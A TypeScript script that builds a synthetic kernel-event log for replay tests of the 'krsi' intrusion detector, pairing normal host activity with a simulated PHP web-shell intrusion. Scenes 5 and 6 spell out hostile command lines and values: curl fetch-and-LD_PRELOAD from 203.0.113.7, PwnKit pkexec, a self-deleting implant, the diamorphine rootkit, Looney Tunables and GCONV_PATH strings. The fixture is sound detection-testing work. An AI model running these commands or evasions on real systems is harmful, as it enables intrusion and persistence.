// Generates rules/samples/sample.jsonl, the bundled sample log that `npx krsi replay` replays.
// usage: node --import tsx rules/samples/make-sample.ts > rules/samples/sample.jsonl
//
// One host (web01), about ten minutes after boot: an admin's shell session, a build, a package
// upgrade that replaces a running binary, container networking modules loading, a JIT runtime and a
// JVM, and one intrusion through a PHP web shell. Every bundled rule fires on the intrusion and stays
// quiet on the normal activity next to it (the negatives). Written as scenes, each on its own clock;
// the events are merged by time at the end, so ts never decreases. No line carries seq: the reader
// assigns it.
import type { ExeRef, KrsiEvent } from '../../signals/events.ts';

const S = 1_000_000_000; // ns per second
const MS = 1_000_000;
const T0 = 600 * S; // CLOCK_BOOTTIME: ten minutes after boot

// st_dev as `stat -c %d` prints it
const ROOT = (259 << 8) | 1; // nvme0n1p1, ext4: 66305
const TMP = 38; // tmpfs on /tmp (0:38)
const SHM = 27; // tmpfs on /dev/shm (0:27)

// executables: path -> inode (dev, ino); the same path may get a new inode (package upgrade)
const bin: Record<string, ExeRef> = {};
function exe(path: string, ino: number, dev = ROOT): ExeRef {
  return (bin[path] = { path, dev, ino });
}
exe('/usr/lib/systemd/systemd', 131080);
exe('/usr/sbin/sshd', 131655);
exe('/usr/bin/bash', 131091);
exe('/usr/bin/ls', 131210);
exe('/usr/bin/git', 131402);
exe('/usr/bin/stdbuf', 131288);
exe('/usr/bin/tail', 131290);
exe('/usr/bin/make', 131511);
exe('/usr/bin/gcc-12', 131522);
exe('/usr/lib/gcc/x86_64-linux-gnu/12/cc1', 133010);
exe('/usr/bin/x86_64-linux-gnu-as', 131530);
exe('/usr/bin/x86_64-linux-gnu-ld.bfd', 131531);
exe('/usr/bin/rm', 131240);
exe('/usr/bin/apt-get', 131700);
exe('/usr/bin/dpkg', 131701);
exe('/usr/bin/systemctl', 131082);
exe('/usr/sbin/nginx', 393401); // old nginx, replaced by the upgrade
exe('/usr/sbin/php-fpm8.2', 393500);
exe('/usr/bin/redis-server', 393610);
exe('/usr/bin/node', 393700);
exe('/usr/lib/jvm/java-17-openjdk-amd64/bin/java', 393800);
exe('/usr/bin/kmod', 131100);
exe('/usr/bin/dockerd', 393900);
exe('/usr/bin/dash', 131095);
exe('/usr/bin/curl', 131300);
exe('/usr/bin/python3.11', 131350);
exe('/usr/bin/pkexec', 131420);
exe('/usr/bin/id', 131230);
exe('/usr/bin/ssh', 131660);
exe('/usr/bin/sudo', 131430);
exe('/usr/bin/cp', 131220);

// names whose executable is another file (the kernel reports the resolved exe, comm keeps the name)
const realPath: Record<string, string> = {
  '/usr/bin/sh': '/usr/bin/dash',
  '/usr/sbin/modprobe': '/usr/bin/kmod',
  '/usr/sbin/rmmod': '/usr/bin/kmod',
  '/usr/sbin/insmod': '/usr/bin/kmod',
};

const out: KrsiEvent[] = [];

interface Proc {
  pid: number;
  ppid: number;
  uid: number;
  comm: string;
  exe: ExeRef;
}

function base(p: Proc, at: number) {
  return { ts: at, pid: p.pid, ppid: p.ppid, uid: p.uid, comm: p.comm, exe: { ...p.exe } };
}

function comm(path: string): string {
  return path.slice(path.lastIndexOf('/') + 1).slice(0, 15);
}

/** a process that was already running when the recording started */
function running(pid: number, ppid: number, uid: number, path: string, name?: string): Proc {
  return { pid, ppid, uid, comm: name ?? comm(path), exe: bin[path] };
}

function fork(parent: Proc, at: number, child: number): Proc {
  out.push({ ...base(parent, at), type: 'fork', child_pid: child });
  return { ...parent, pid: child, ppid: parent.pid };
}

/** execve in p (same pid); env: the watched variables that were present */
function exec(p: Proc, at: number, path: string, argv: string[], env?: Record<string, string>, extra?: Record<string, unknown>): Proc {
  const real = realPath[path] ?? path;
  p.exe = bin[real];
  if (!p.exe) throw new Error(`no inode for ${real}`);
  p.comm = comm(path);
  out.push({ ...base(p, at), type: 'exec', filename: path, argv, ...(env ? { env } : {}), ...extra });
  return p;
}

function spawn(parent: Proc, at: number, child: number, path: string, argv: string[], env?: Record<string, string>, o: { uid?: number; extra?: Record<string, unknown> } = {}): Proc {
  const c = fork(parent, at, child);
  if (o.uid !== undefined) c.uid = o.uid;
  return exec(c, at + 200_000, path, argv, env, o.extra);
}

function exit(p: Proc, at: number, code = 0) {
  out.push({ ...base(p, at), type: 'exit', code });
}

function unlink(p: Proc, at: number, path: string, target: { dev: number; ino: number; nlink: number }, extra?: Record<string, unknown>) {
  out.push({ ...base(p, at), type: 'unlink', path, target, ...extra });
}

function mprotect(p: Proc, at: number, start: number, len: number, prot: number, facts: Record<string, unknown> = {}) {
  out.push({ ...base(p, at), type: 'mprotect', start, len, prot, ...facts });
}

function moduleLoad(p: Proc, at: number, name: string, file?: { dev: number; ino: number }) {
  out.push({ ...base(p, at), type: 'module_load', name, ...(file ? { file } : {}) });
}

// ---- the host: long-running processes ----
const systemd = running(1, 0, 0, '/usr/lib/systemd/systemd');
const sshd = running(640, 1, 0, '/usr/sbin/sshd');
const krsi = running(700, 1, 0, '/usr/bin/node', 'krsi');
let nginx = running(812, 1, 0, '/usr/sbin/nginx');
const phpfpm = running(881, 880, 33, '/usr/sbin/php-fpm8.2', 'php-fpm8.2');
const node = running(950, 1, 1001, '/usr/bin/node');
const dockerd = running(990, 1, 0, '/usr/bin/dockerd');

// ---- the module list signal: a snapshot every 30 s ----
const baseModules = [
  'ext4', 'jbd2', 'mbcache', 'nvme', 'nvme_core', 'virtio_net', 'net_failover', 'failover', 'virtio_pci',
  'crc32c_intel', 'aesni_intel', 'cryptd', 'ip_tables', 'x_tables', 'nf_tables', 'nfnetlink', 'tcp_bbr',
  'sch_fq_codel', 'overlay', 'loop', 'dm_mod', 'evdev', 'serio_raw', 'button',
];
const loaded = new Set(baseModules);
const listed = (): string[] => [...loaded].filter((m) => m !== 'diamorphine');
const moduleTimeline: { at: number; add?: string; remove?: string }[] = [];
// filled by the scenes below; snapshots are emitted at the end
function loadModule(p: Proc, at: number, name: string, file?: { dev: number; ino: number }) {
  moduleLoad(p, at, name, file);
  moduleTimeline.push({ at, add: name });
}

// ---- scene 1: alice logs in over ssh and looks around ----
{
  let t = T0 + 2 * S;
  const priv = fork(sshd, t, 2001);
  priv.comm = 'sshd';
  const bash = spawn(priv, t + 40 * MS, 2002, '/usr/bin/bash', ['-bash'], undefined, { uid: 1000 });
  mprotect(bash, t + 41 * MS, 0x7f3a_1c00_0000, 0x5000, 1); // RELRO after relocation
  t += 3 * S;
  const ls = spawn(bash, t, 2003, '/usr/bin/ls', ['ls', '-la']);
  mprotect(ls, t + 1 * MS, 0x7f12_8800_0000, 0x4000, 1);
  exit(ls, t + 4 * MS);
  t += 4 * S;
  const git = spawn(bash, t, 2004, '/usr/bin/git', ['git', 'status']);
  exit(git, t + 35 * MS);
  t += 5 * S;
  // stdbuf re-execs its command with LD_PRELOAD of coreutils' libstdbuf: allowlisted, no alert
  const sb = spawn(bash, t, 2005, '/usr/bin/stdbuf', ['stdbuf', '-oL', 'tail', '-n', '20', '/var/log/nginx/access.log']);
  exec(sb, t + 2 * MS, '/usr/bin/tail', ['tail', '-n', '20', '/var/log/nginx/access.log'], { LD_PRELOAD: '/usr/libexec/coreutils/libstdbuf.so' });
  exit(sb, t + 9 * MS);
  scene2(bash, T0 + 20 * S);
}

// ---- scene 2: alice builds her project (temp files deleted: not self-deletion) ----
function scene2(bash: Proc, t: number) {
  const make = spawn(bash, t, 2010, '/usr/bin/make', ['make', '-j1']);
  for (const [i, src] of ['main', 'net', 'util'].entries()) {
    const at = t + 100 * MS + i * 2 * S;
    const gcc = spawn(make, at, 2011 + i * 4, '/usr/bin/gcc-12', ['gcc', '-O2', '-c', `src/${src}.c`, '-o', `build/${src}.o`]);
    const asm = `/tmp/cc${['Qx3kLm', 'b7TfZa', 'Yp02nR'][i]}.s`;
    const cc1 = spawn(gcc, at + 5 * MS, 2012 + i * 4, '/usr/lib/gcc/x86_64-linux-gnu/12/cc1', ['cc1', '-quiet', `src/${src}.c`, '-O2', '-o', asm]);
    mprotect(cc1, at + 6 * MS, 0x7f40_0000_0000, 0x9000, 1);
    exit(cc1, at + 900 * MS);
    const as = spawn(gcc, at + 905 * MS, 2013 + i * 4, '/usr/bin/x86_64-linux-gnu-as', ['as', '--64', '-o', `build/${src}.o`, asm]);
    exit(as, at + 960 * MS);
    unlink(gcc, at + 965 * MS, asm, { dev: TMP, ino: 70_011 + i, nlink: 0 });
    exit(gcc, at + 970 * MS);
  }
  const lt = t + 7 * S;
  const ld = spawn(make, lt, 2030, '/usr/bin/x86_64-linux-gnu-ld.bfd', ['ld', '-o', 'build/app', 'build/main.o', 'build/net.o', 'build/util.o', '-Lbuild/lib', '-lproto']);
  exit(ld, lt + 300 * MS);
  exe('/home/alice/src/app/build/app', 2_621_500);
  // the test run: LD_LIBRARY_PATH names the project's own lib dir, not a world-writable one
  const app = spawn(make, lt + 400 * MS, 2031, '/home/alice/src/app/build/app', ['build/app', '--self-test'], { LD_LIBRARY_PATH: '/home/alice/src/app/build/lib' });
  mprotect(app, lt + 402 * MS, 0x5600_0000_0000, 0x2000, 1);
  exit(app, lt + 900 * MS);
  exit(make, lt + 950 * MS);
  // make clean: rm deletes the binary it just built; rm's own exe is untouched
  const t2 = t + 12 * S;
  const rm = spawn(bash, t2, 2032, '/usr/bin/rm', ['rm', '-f', 'build/app', 'build/main.o', 'build/net.o', 'build/util.o']);
  unlink(rm, t2 + 1 * MS, '/home/alice/src/app/build/app', { dev: ROOT, ino: 2_621_500, nlink: 0 });
  for (const [i, o] of ['main', 'net', 'util'].entries()) unlink(rm, t2 + 2 * MS, `/home/alice/src/app/build/${o}.o`, { dev: ROOT, ino: 2_621_490 + i, nlink: 0 });
  exit(rm, t2 + 3 * MS);
  // a tracing preload of her own, then a W+X page 12 s later: ld-preload alerts, but the chain
  // (preload then W+X within 10 s) does not complete, so no quarantine
  const t3 = t + 20 * S;
  exe('/home/alice/src/app/build/app', 2_621_600);
  const traced = spawn(bash, t3, 2035, '/home/alice/src/app/build/app', ['build/app', '--serve'], { LD_PRELOAD: '/home/alice/src/app/build/libtrace.so' });
  mprotect(traced, t3 + 1 * MS, 0x5600_0000_0000, 0x2000, 1);
  mprotect(traced, t3 + 12 * S, 0x7f00_dead_0000, 0x1000, 7);
  exit(traced, t3 + 13 * S);
}

// ---- scene 3: unattended upgrade replaces nginx while nginx runs it; docker networking modules ----
{
  const t = T0 + 70 * S;
  const apt = spawn(systemd, t, 3000, '/usr/bin/apt-get', ['apt-get', '-qy', 'upgrade']);
  const dpkg = spawn(apt, t + 8 * S, 3001, '/usr/bin/dpkg', ['dpkg', '--status-fd', '21', '--unpack', '--auto-deconfigure', '/var/cache/apt/archives/nginx-core_1.22.1-9+deb12u2_amd64.deb']);
  // dpkg: new file to nginx.dpkg-new, old one hard-linked to nginx.dpkg-tmp, rename into place, then
  // unlink the backup: the last link of the inode nginx (pid 812) runs goes, but it is not dpkg's own
  unlink(dpkg, t + 8 * S + 400 * MS, '/usr/sbin/nginx.dpkg-tmp', { dev: ROOT, ino: 393401, nlink: 0 });
  exit(dpkg, t + 9 * S);
  exit(apt, t + 11 * S);
  const ctl = spawn(systemd, t + 11 * S + 100 * MS, 3010, '/usr/bin/systemctl', ['systemctl', 'restart', 'nginx.service']);
  exit(ctl, t + 11 * S + 600 * MS);
  exit(nginx, t + 11 * S + 300 * MS);
  exe('/usr/sbin/nginx', 393777); // the new inode
  nginx = spawn(systemd, t + 11 * S + 400 * MS, 3011, '/usr/sbin/nginx', ['/usr/sbin/nginx', '-g', 'daemon on; master_process on;']);
  // docker starts a bridge network: modprobe pulls in allowlisted modules, and they stay listed
  const t2 = t + 25 * S;
  let mp = spawn(dockerd, t2, 3100, '/usr/sbin/modprobe', ['modprobe', 'br_netfilter']);
  let ino = 1_703_300;
  for (const m of ['stp', 'llc', 'bridge', 'br_netfilter']) loadModule(mp, t2 + 20 * MS, m, { dev: ROOT, ino: ino++ });
  exit(mp, t2 + 60 * MS);
  mp = spawn(dockerd, t2 + 500 * MS, 3101, '/usr/sbin/modprobe', ['modprobe', 'veth']);
  loadModule(mp, t2 + 520 * MS, 'veth', { dev: ROOT, ino: ino++ });
  exit(mp, t2 + 540 * MS);
  mp = spawn(dockerd, t2 + 700 * MS, 3102, '/usr/sbin/modprobe', ['modprobe', 'xt_conntrack']);
  for (const m of ['nf_defrag_ipv6', 'nf_defrag_ipv4', 'nf_conntrack', 'xt_conntrack']) loadModule(mp, t2 + 720 * MS, m, { dev: ROOT, ino: ino++ });
  exit(mp, t2 + 760 * MS);
}

// ---- scene 3b: an admin tries the dummy network module, then removes it (rmmod) ----
{
  const t = T0 + 100 * S;
  const mp = spawn(sshd, t, 3200, '/usr/sbin/modprobe', ['modprobe', 'dummy']);
  loadModule(mp, t + 15 * MS, 'dummy', { dev: ROOT, ino: 1_703_320 });
  exit(mp, t + 30 * MS);
  // gone before the +120 s snapshot: unloaded, not hidden
  const rm = spawn(sshd, t + 6 * S, 3201, '/usr/sbin/rmmod', ['rmmod', 'dummy']);
  out.push({ ...base(rm, t + 6 * S + 10 * MS), type: 'module_unload', name: 'dummy' });
  moduleTimeline.push({ at: t + 6 * S + 10 * MS, remove: 'dummy' });
  exit(rm, t + 6 * S + 20 * MS);
}

// ---- scene 4: a JIT (node) and a JVM: many mprotects, but never more than 100 ----
{
  // node flips its code pages RW <-> RX (W^X, never both): 40 mprotects over four minutes
  for (let i = 0; i < 40; i++) mprotect(node, T0 + 10 * S + i * 6 * S, 0x3a1f_0000_0000 + (i % 8) * 0x40000, 0x40000, i % 2 ? 5 : 3);
  // a JVM starts: exactly 100 mprotects in 20 s (the boundary: the limit is *more* than 100)
  const jvm = spawn(systemd, T0 + 140 * S, 960, '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', ['java', '-Xmx2g', '-jar', '/opt/billing/billing.jar']);
  for (let i = 0; i < 100; i++) mprotect(jvm, T0 + 140 * S + 50 * MS + i * 200 * MS, 0x7f88_0000_0000 + i * 0x10000, 0x10000, [1, 3, 5][i % 3]);
  // redis with the jemalloc preload its unit sets: allowlisted
  const redis = spawn(systemd, T0 + 150 * S, 970, '/usr/bin/redis-server', ['/usr/bin/redis-server', '127.0.0.1:6379'], { LD_PRELOAD: '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2' }, { uid: 106 });
  mprotect(redis, T0 + 150 * S + 3 * MS, 0x7f77_0000_0000, 0x3000, 1);
}

// ---- scene 5: intrusion through a PHP web shell ----
{
  let t = T0 + 200 * S;
  const sh = spawn(phpfpm, t, 4100, '/usr/bin/sh', ['sh', '-c', 'curl -s http://203.0.113.7/l -o /dev/shm/.libsys.so; LD_PRELOAD=/dev/shm/.libsys.so python3 -c "import time; time.sleep(9)"']);
  const curl = spawn(sh, t + 2 * MS, 4101, '/usr/bin/curl', ['curl', '-s', 'http://203.0.113.7/l', '-o', '/dev/shm/.libsys.so']);
  exit(curl, t + 700 * MS);
  // the injected library makes a page W+X within a second: quarantine (enforced by default)
  t += 800 * MS;
  const py = spawn(sh, t, 4102, '/usr/bin/python3.11', ['python3', '-c', 'import time; time.sleep(9)'], { LD_PRELOAD: '/dev/shm/.libsys.so' });
  mprotect(py, t + 3 * MS, 0x7f5c_2200_0000, 0x3000, 1);
  mprotect(py, t + 400 * MS, 0x7f5c_3000_0000, 0x21000, 3);
  mprotect(py, t + 900 * MS, 0x7f5c_3000_0000, 0x21000, 7);
  // what it tries next is refused: another W+X page, then exec of a shell
  mprotect(py, t + 1500 * MS, 0x7f5c_3100_0000, 0x1000, 7);
  exec(py, t + 2 * S, '/usr/bin/sh', ['sh', '-i']);
  exit(py, t + 2 * S + 100 * MS, 126);

  // PwnKit: pkexec is on the vulnerable paths list (first exec refused in the kernel by path)
  t = T0 + 215 * S;
  const pk = spawn(sh, t, 4110, '/usr/bin/pkexec', ['pkexec'], undefined);
  pk.uid = 0;
  const root = exec(pk, t + 30 * MS, '/usr/bin/sh', ['sh']);
  // a copy of a vulnerable build elsewhere: matched by sha256; the second exec of that inode is refused
  const cp = spawn(sh, t + 500 * MS, 4111, '/usr/bin/cp', ['cp', '/usr/bin/pkexec', '/var/tmp/.pk']);
  exit(cp, t + 510 * MS);
  exe('/var/tmp/.pk', 524_310);
  const pkSha = 'd9c7a0a18dc3928db1b37d8c58c957d15755833b9bcf631feca4fd94615a482b';
  const pk2 = spawn(sh, t + 1 * S, 4112, '/var/tmp/.pk', ['.pk'], undefined, { extra: { sha256: pkSha } });
  exit(pk2, t + 1 * S + 20 * MS, 127);
  const pk3 = spawn(sh, t + 3 * S, 4113, '/var/tmp/.pk', ['.pk', '--version'], undefined, { extra: { sha256: pkSha } });
  exit(pk3, t + 3 * S + 20 * MS, 127);
  // sudo is not on the list (its hash is not either)
  const sudo = spawn(sh, t + 4 * S, 4114, '/usr/bin/sudo', ['sudo', '-n', 'true'], undefined, { extra: { sha256: '4f3ae1b07c2d95e8a1f6c3b0d7e4a9c2f5b8e1d4a7c0f3b6e9d2a5c8f1b4e7d0' } });
  exit(sudo, t + 4 * S + 15 * MS, 1);

  // as root: the implant is fetched to /tmp, runs, and deletes itself
  t = T0 + 225 * S;
  const dl = spawn(root, t, 4120, '/usr/bin/curl', ['curl', '-s', 'http://203.0.113.7/k', '-o', '/tmp/.x/kworkerd']);
  exit(dl, t + 600 * MS);
  exe('/tmp/.x/kworkerd', 70_200, TMP);
  const imp = spawn(root, t + 1 * S, 4121, '/tmp/.x/kworkerd', ['[kworker/0:2H]']);
  imp.comm = 'kworker/0:2H';
  unlink(imp, t + 1 * S + 5 * MS, '/tmp/.x/kworkerd', { dev: TMP, ino: 70_200, nlink: 0 });
  // it unpacks itself: writes 130 pages and flips each W->X in 1.3 s (the 101st flip trips the talk's
  // rule); its RW mprotects are not emitted (nothing becomes executable)
  for (let i = 0; i < 130; i++) {
    mprotect(imp, t + 1 * S + 10 * MS + i * 10 * MS, 0x7f10_0000_0000 + i * 0x1000, 0x1000, 5, { reqprot: 5, wx: true, exec_added: true, flip: true, old_prot: 3 });
  }
  // loads its rootkit module: not on the allowlist, and it hides from /proc/modules
  const ins = spawn(imp, t + 3 * S, 4122, '/usr/sbin/insmod', ['insmod', '/tmp/.x/diamorphine.ko']);
  loadModule(ins, t + 3 * S + 40 * MS, 'diamorphine', { dev: TMP, ino: 70_210 });
  exit(ins, t + 3 * S + 50 * MS);
  // krsi's module inventory, checked 1 s after the load and confirmed 1 s later: the kernel holds the
  // module, off the module list and so off /proc/modules; its /sys/module directory is still there
  out.push({
    ...base(krsi, t + 5 * S + 40 * MS), type: 'module_inventory', name: 'diamorphine', proc_modules: false, sys_module: true,
    kernel: { recorded: 1, linked: 0, unlinked: 1, sysfs: 1, seeded: 0, addrs: ['ffffffffc0a41040'] },
    missing_from: ['proc_modules', 'module_list'], present_in: ['sys_module', 'kernel'],
    summary: '/proc/modules does not list it; /sys/module has it; the kernel holds 1 module of that name, 0 on the module list, 1 unlinked from it',
  });
  // and hooks other programs: LD_AUDIT on a sudo, LD_LIBRARY_PATH in /dev/shm for ssh
  const au = spawn(imp, t + 5 * S, 4123, '/usr/bin/id', ['id'], { LD_AUDIT: '/tmp/.x/audit.so' });
  exit(au, t + 5 * S + 4 * MS);
  const ssh = spawn(root, t + 6 * S, 4124, '/usr/bin/ssh', ['ssh', '-o', 'BatchMode=yes', 'backup@10.0.3.14'], { LD_LIBRARY_PATH: '/dev/shm/.lib:/usr/lib/x86_64-linux-gnu' });
  exit(ssh, t + 8 * S, 255);
  // its second stage keeps running while the implant removes its names: first one of two hard links, then the last
  exe('/tmp/.x/.sshd', 70_220, TMP);
  const stage2 = spawn(imp, t + 9 * S, 4126, '/tmp/.x/.sshd', ['sshd: root@notty']);
  const running = { count: 1, pids: [stage2.pid], by: 'other' };
  unlink(imp, t + 9 * S + 20 * MS, '/tmp/.x/.sshd', { dev: TMP, ino: 70_220, nlink: 1 }, { route: 'syscall', running });
  unlink(imp, t + 9 * S + 30 * MS, '/tmp/.x/.k2', { dev: TMP, ino: 70_220, nlink: 0 }, { route: 'syscall', running });
  // a second try at pkexec, from the root shell: the verdict on its inode refuses it
  const pk4 = spawn(root, t + 10 * S, 4125, '/usr/bin/pkexec', ['pkexec', '--version']);
  exit(pk4, t + 10 * S + 10 * MS);
  exit(sh, t + 12 * S);
}

// ---- scene 6: the implant's evasions (issue 11): fileless exec, loader tricks, interpreter variables ----
{
  const t = T0 + 245 * S;
  const root = running(4130, 4121, 0, '/usr/bin/bash', 'bash');
  // a payload run from a memfd (memfd_create + fexecve): the exe facts come from the kernel
  const mem = exe('/memfd:x (deleted)', 1505, 1);
  Object.assign(mem, { nlink: 0, memfd: true, deleted: true, fs: 'tmpfs', setuid: false, setgid: false });
  const fl = spawn(root, t, 4131, '/memfd:x (deleted)', ['[kworker/1:1]']);
  exit(fl, t + 50 * MS);
  // ld.so run as a program with --preload, argv[0] padded so the recorded argv is cut
  exe('/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', 131030);
  const ld = spawn(root, t + 1 * S, 4132, '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', ['A'.repeat(40)], undefined,
    { extra: { argv_truncated: true, ldso: { preload: '/dev/shm/.libsys.so', program: '/usr/bin/id' } } });
  exit(ld, t + 1 * S + 5 * MS);
  // LD_PRELOAD twice: an allowlisted copy for getenv(3) readers, the implant's for ld.so (here the last is the allowlisted one)
  const dup = spawn(root, t + 2 * S, 4133, '/usr/bin/id', ['id'], { LD_PRELOAD: '/usr/libexec/coreutils/libstdbuf.so' },
    { extra: { env_dup: ['LD_PRELOAD'], env_all: { LD_PRELOAD: ['/dev/shm/.libsys.so', '/usr/libexec/coreutils/libstdbuf.so'] } } });
  exit(dup, t + 2 * S + 5 * MS);
  // 20000 filler variables before LD_PRELOAD: past the signal's bound
  const flood = spawn(root, t + 3 * S, 4134, '/usr/bin/id', ['id'], undefined, { extra: { env_truncated: true } });
  exit(flood, t + 3 * S + 30 * MS);
  // Looney Tunables (CVE-2023-4911) against a setuid binary, and GCONV_PATH (the pkexec trick)
  const su = exe('/usr/bin/su', 131440);
  Object.assign(su, { nlink: 1, memfd: false, deleted: false, fs: 'ext4', setuid: true, setgid: false });
  const lt = spawn(root, t + 4 * S, 4135, '/usr/bin/su', ['su', '--help'], { GLIBC_TUNABLES: 'glibc.malloc.mxfast=glibc.malloc.mxfast=AAAA' }, { uid: 1000 });
  exit(lt, t + 4 * S + 5 * MS, 1);
  const gc = spawn(root, t + 5 * S, 4136, '/usr/bin/id', ['id'], { GCONV_PATH: '/tmp/.x' });
  exit(gc, t + 5 * S + 5 * MS);
  // interpreter start-up code: node --require from /dev/shm, python modules from /tmp
  const nd = spawn(root, t + 6 * S, 4137, '/usr/bin/node', ['node', 'server.js'], { NODE_OPTIONS: '--require /dev/shm/.h.js' });
  exit(nd, t + 6 * S + 80 * MS);
  const pyp = spawn(root, t + 7 * S, 4138, '/usr/bin/python3.11', ['python3', 'app.py'], { PYTHONPATH: '/tmp/.p' });
  exit(pyp, t + 7 * S + 80 * MS);
  // the normal things next to them: tuning variables, an application's own module path
  const jv = spawn(systemd, t + 8 * S, 4140, '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', ['java', '-jar', 'app.jar'], { JAVA_TOOL_OPTIONS: '-Xmx2g', GLIBC_TUNABLES: 'glibc.malloc.arena_max=2' }, { uid: 1001 });
  exit(jv, t + 8 * S + 90 * MS);
  const nd2 = spawn(systemd, t + 9 * S, 4141, '/usr/bin/node', ['node', 'worker.js'], { NODE_OPTIONS: '--max-old-space-size=4096' }, { uid: 1001 });
  exit(nd2, t + 9 * S + 90 * MS);
  const py2 = spawn(systemd, t + 10 * S, 4142, '/usr/bin/python3.11', ['python3', '-m', 'app'], { PYTHONPATH: '/opt/app' }, { uid: 1001 });
  exit(py2, t + 10 * S + 90 * MS);
  // the loader run on a memfd (python: memfd_create, then execv of ld.so on /proc/self/fd/3): the exe is ld.so
  // on disk, ldso.program names the fd, and ld.so maps the memfd executable itself (an mmap event on shmem)
  const lm = spawn(root, t + 11 * S, 4143, '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', ['ld.so', '/proc/self/fd/3'], undefined,
    { extra: { ldso: { program: '/proc/self/fd/3' } } });
  out.push({ ...base(lm, t + 11 * S + 2 * MS), type: 'mmap', start: 0x7f3a10000000, len: 16384, prot: 5, reqprot: 5, flags: 0x812, wx: false, exec_added: true, shmem: true, file: { dev: 1, ino: 1883 } });
  exit(lm, t + 11 * S + 8 * MS);
  // next to it, .NET's W^X double mapping: its JIT code in a memfd mapped RX through the writable fd (wx): no alert
  exe('/usr/share/dotnet/dotnet', 131800);
  const dn = spawn(systemd, t + 12 * S, 4144, '/usr/share/dotnet/dotnet', ['dotnet', 'api.dll'], undefined, { uid: 1001 });
  out.push({ ...base(dn, t + 12 * S + 40 * MS), type: 'mmap', start: 0x7f3a20000000, len: 65536, prot: 5, reqprot: 5, flags: 0x1, wx: true, exec_added: true, shmem: true, file: { dev: 1, ino: 1890 } });
  exit(dn, t + 12 * S + 90 * MS);
}

// ---- module list snapshots, every 30 s, by krsi's module signal ----
{
  moduleTimeline.sort((a, b) => a.at - b.at);
  let k = 0;
  for (let at = T0; at <= T0 + 270 * S; at += 30 * S) {
    for (; k < moduleTimeline.length && moduleTimeline[k].at <= at; k++) {
      const m = moduleTimeline[k];
      if (m.add) loaded.add(m.add);
      if (m.remove) loaded.delete(m.remove);
    }
    out.push({ ...base(krsi, at), type: 'module_list', modules: listed() });
  }
}

// ---- krsi's own lost-event report: the implant's flip storm (+226 s) overflowed the memory ring ----
out.push({ ...base(krsi, T0 + 230 * S), type: 'lost', class: 'bulk', count: 2048, kinds: { mprotect: 2048 } });

// ---- end of the session ----
exit(node, T0 + 265 * S);
void systemd;
void nginx;

// merge the scenes by time (stable: equal ts keep their written order)
out.sort((a, b) => a.ts - b.ts);
// written as ts, type, then the common fields, then the type's own
for (const { ts, type, ...rest } of out) process.stdout.write(JSON.stringify({ ts, type, ...rest }) + '\n');
